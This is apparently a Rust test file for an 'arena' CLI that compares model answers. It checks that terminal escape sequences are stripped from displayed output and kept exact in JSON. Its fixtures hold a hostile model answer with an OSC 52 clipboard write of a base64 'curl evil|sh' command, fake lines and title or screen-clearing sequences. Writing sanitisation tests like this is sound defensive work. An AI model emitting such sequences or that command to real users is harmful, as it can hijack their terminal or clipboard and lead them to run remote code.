//! A model's answer that attacks the terminal, through the real `arena`
//! binary: OSC 52 (a clipboard write of `curl evil|sh`), a title change, a
//! screen clear, a fake line after a carriage return and an 8-bit CSI.
//! What `arena` prints for a person (the progress on a real terminal,
//! `battle show --output`, the analysis, a cross-examination, a refine
//! round, `series show` and `series list`) has none of them and keeps the
//! words, newlines and tabs; `--json` keeps the text exact.

mod common;

use std::fs::File;
use std::io::Read;
use std::os::fd::{FromRawFd, OwnedFd};
use std::process::{Command, Output, Stdio};

use arena_testserver::ModelScript;
use common::{stdout, Setup};
use serde_json::{json, Value};

/// The hostile answer: every attack, with words around each.
const ATTACK: &str = "Here is my answer.\n\x1b]52;c;Y3VybCBldmlsfHNo\x07Copied nothing.\rFAKE: all tests passed\nStill \u{9b}31mred\u{9b}0m\there.\x1b]0;pwned\x07\x1b[2J\x1b[HThe end.";

/// [`ATTACK`] as it must be shown.
const SHOWN: &str =
    "Here is my answer.\nCopied nothing.FAKE: all tests passed\nStill red\there.The end.";

/// The judge's reason for its pick, hostile too.
const REASON: &str = "\x1b]0;judged\x07Clearly \u{9b}1mbest\u{9b}0m.\rAll others failed";
const REASON_SHOWN: &str = "Clearly best.All others failed";

/// A prompt from a shared prompt set, hostile in its first line (the one
/// `series show` and `series list` print).
const PROMPT: &str = "\x1b]0;pwned\x07Name the \u{9b}1mcapital\u{9b}0m.\rFAKE: all tests passed\x1b[2J\nThen explain.";
const PROMPT_SHOWN: &str = "Name the capital.FAKE: all tests passed";

/// What must never reach the terminal from the answer: ESC, BEL, the
/// 8-bit CSI, a carriage return.
fn assert_printable(what: &str, text: &str) {
    for bad in ['\x1b', '\x07', '\u{9b}', '\r'] {
        assert!(!text.contains(bad), "{what} holds {bad:?}: {text:?}");
    }
}

/// A judge that prefers the answer with FAKE in it, with [`REASON`].
fn hostile_judge() -> ModelScript {
    ModelScript::respond_with(|body| {
        let messages = body["messages"].as_array();
        let content = |m: Option<&Value>| {
            m.and_then(|m| m["content"].as_str())
                .unwrap_or("")
                .to_string()
        };
        let system = content(messages.and_then(|m| m.first()));
        let user = content(messages.and_then(|m| m.last()));
        if system.contains("You summarise one answer") {
            let mark = if user.contains("FAKE") {
                "MARK-BEST"
            } else {
                "MARK-MEH"
            };
            return format!("{mark} a summary");
        }
        let (mut label, mut best) = ("A", "A");
        for line in user.lines() {
            if let Some(rest) = line.strip_prefix("Answer ") {
                label = rest.get(..1).unwrap_or("A");
            }
            if line.contains("MARK-BEST") {
                best = label;
            }
        }
        json!({ "winner": best, "reasons": { best: REASON } }).to_string()
    })
}

fn models(s: &Setup, rate: f64) {
    s.local
        .set_model("evil", ModelScript::text(ATTACK).rate(rate));
    s.cloud
        .set_model("plain", ModelScript::text("A plain\tanswer."));
    s.cloud.set_model("judge", hostile_judge());
}

/// A pseudo-terminal wide enough for a progress line: (master, slave).
fn pty() -> (File, OwnedFd) {
    let (mut master, mut slave) = (-1, -1);
    let size = libc::winsize {
        ws_row: 40,
        ws_col: 200,
        ws_xpixel: 0,
        ws_ypixel: 0,
    };
    // SAFETY: openpty only writes the two descriptors it opened; no name
    // buffer, default terminal settings, a valid window size.
    let rc = unsafe {
        libc::openpty(
            &mut master,
            &mut slave,
            std::ptr::null_mut(),
            std::ptr::null(),
            &size,
        )
    };
    assert_eq!(rc, 0, "openpty: {}", std::io::Error::last_os_error());
    // SAFETY: both descriptors are open and owned by nothing else.
    unsafe { (File::from_raw_fd(master), OwnedFd::from_raw_fd(slave)) }
}

/// Runs `cmd` with its stderr on a terminal, as a person runs it: what it
/// printed on stdout, and every byte the terminal received.
async fn on_a_terminal(mut cmd: Command) -> (Output, Vec<u8>) {
    tokio::task::spawn_blocking(move || {
        let (mut master, slave) = pty();
        let child = cmd
            .env("TERM", "xterm-256color")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::from(slave))
            .spawn()
            .unwrap();
        // Our copy of the terminal's other end goes, so reading ends when
        // the child's does.
        drop(cmd);
        let reader = std::thread::spawn(move || {
            let (mut seen, mut buf) = (Vec::new(), [0u8; 4096]);
            // EIO once every writer has closed it.
            while let Ok(n @ 1..) = master.read(&mut buf) {
                seen.extend_from_slice(&buf[..n]);
            }
            seen
        });
        let out = child.wait_with_output().unwrap();
        (out, reader.join().unwrap())
    })
    .await
    .unwrap()
}

#[tokio::test]
async fn a_hostile_answer_reaches_the_terminal_as_its_words_and_json_as_it_is() {
    let s = Setup::new().await;
    // Slow enough that the progress line draws the answer as it grows.
    models(&s, 8.0);
    let project = s.project();
    let run = s.command(&[
        "battle",
        "run",
        "--type",
        "qa",
        "--prompt",
        "Fix it.",
        "--project",
        project.to_str().unwrap(),
        "-c",
        "debugger@evil",
        "-c",
        "explainer@plain",
    ]);
    let (out, terminal) = on_a_terminal(run).await;
    let printed = stdout(&out);
    let terminal = String::from_utf8_lossy(&terminal);

    // The progress: drawn (the answer's words are there), and none of the
    // answer's sequences. (The bars draw with escape sequences of their
    // own, so look for the answer's.)
    assert!(
        terminal.contains("Copied nothing."),
        "no progress drawn: {terminal:?}"
    );
    for bad in ["\x1b]", "\x07", "\u{9b}", "\x1b[2J", "52;c;", "pwned"] {
        assert!(
            !terminal.contains(bad),
            "the progress holds {bad:?}: {terminal:?}"
        );
    }

    // The battle at the end, with the judge's reason.
    assert_printable("the battle", &printed);
    assert!(printed.contains(REASON_SHOWN), "no reason shown: {printed}");

    let list = s.json(&["battle", "list", "--json"]).await;
    let id = list[0]["id"].as_str().unwrap().to_string();

    // `battle show --output`: the words, the newlines and the tab.
    let shown = stdout(&s.arena(&["battle", "show", &id, "--output"]).await);
    assert_printable("battle show --output", &shown);
    assert!(shown.contains(SHOWN), "{shown}");
    assert!(shown.contains("A plain\tanswer."), "{shown}");
    assert!(shown.contains(REASON_SHOWN), "{shown}");

    // `--json`: exact.
    let b = s.json(&["battle", "show", &id, "--json"]).await;
    let evil = b["contestants"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["model"] == "evil")
        .unwrap();
    assert_eq!(evil["output"], ATTACK);
    let reasons = b["analysis"]["reasons"].as_object().unwrap();
    assert!(
        !reasons.is_empty() && reasons.values().all(|r| r == REASON),
        "{:#}",
        b["analysis"]
    );
}

#[tokio::test]
async fn a_cross_examination_and_a_refine_round_are_printed_as_their_words() {
    let s = Setup::new().await;
    models(&s, 0.0);
    s.cloud.set_model("examiner", ModelScript::text(ATTACK));
    let project = s.project();
    let b = s
        .json(&[
            "battle",
            "run",
            "--type",
            "qa",
            "--json",
            "--no-analysis",
            "--prompt",
            "Fix it.",
            "--project",
            project.to_str().unwrap(),
            "-c",
            "debugger@evil",
            "-c",
            "explainer@plain",
        ])
        .await;
    let id = b["id"].as_str().unwrap();

    let x = stdout(
        &s.arena(&[
            "battle",
            "cross-examine",
            id,
            "-c",
            "code-reviewer@examiner",
        ])
        .await,
    );
    assert_printable("the cross-examination", &x);
    assert!(x.contains(SHOWN), "{x}");

    let round = stdout(
        &s.arena(&["battle", "refine", id, "1", "--feedback", "Shorter."])
            .await,
    );
    assert_printable("the refine round", &round);
    assert!(round.contains(SHOWN), "{round}");

    let detail = s.json(&["battle", "show", id, "--json"]).await;
    assert_eq!(detail["cross_examinations"][0]["output"], ATTACK);
    let rounds = detail["contestants"][0]["rounds"].as_array().unwrap();
    assert!(
        rounds.iter().any(|r| r["output"] == ATTACK),
        "{:#}",
        detail["contestants"][0]
    );
}

#[tokio::test]
async fn a_series_from_a_hostile_prompt_set_is_printed_as_its_words() {
    let s = Setup::new().await;
    models(&s, 0.0);
    // A prompt set someone shared, its one prompt as hostile as the answer.
    let prompts = s.dir.path().join("prompts.jsonl");
    std::fs::write(&prompts, format!("{}\n", json!({ "prompt": PROMPT }))).unwrap();
    let project = s.project();
    let series = s
        .json(&[
            "series",
            "run",
            "--type",
            "qa",
            "--json",
            "--no-analysis",
            "--prompts",
            prompts.to_str().unwrap(),
            "--project",
            project.to_str().unwrap(),
            "-c",
            "debugger@evil",
            "-c",
            "explainer@plain",
        ])
        .await;
    let id = series["id"].as_str().unwrap();
    assert_eq!(series["status"], "done", "{series:#}");

    let report = stdout(&s.arena(&["series", "show", id]).await);
    assert_printable("series show", &report);
    assert!(
        report.contains(&format!("- Prompt: {PROMPT_SHOWN}")),
        "{report}"
    );
    let report_md = stdout(&s.arena(&["series", "report", id, "--format", "md"]).await);
    assert_printable("series report --format md", &report_md);
    let list = stdout(&s.arena(&["series", "list"]).await);
    assert_printable("series list", &list);
    assert!(list.contains(PROMPT_SHOWN), "{list}");

    let json = s.json(&["series", "show", id, "--json"]).await;
    let text = json.to_string();
    assert!(
        text.contains(&serde_json::to_string(PROMPT).unwrap()),
        "the prompt is not exact: {json:#}"
    );
}
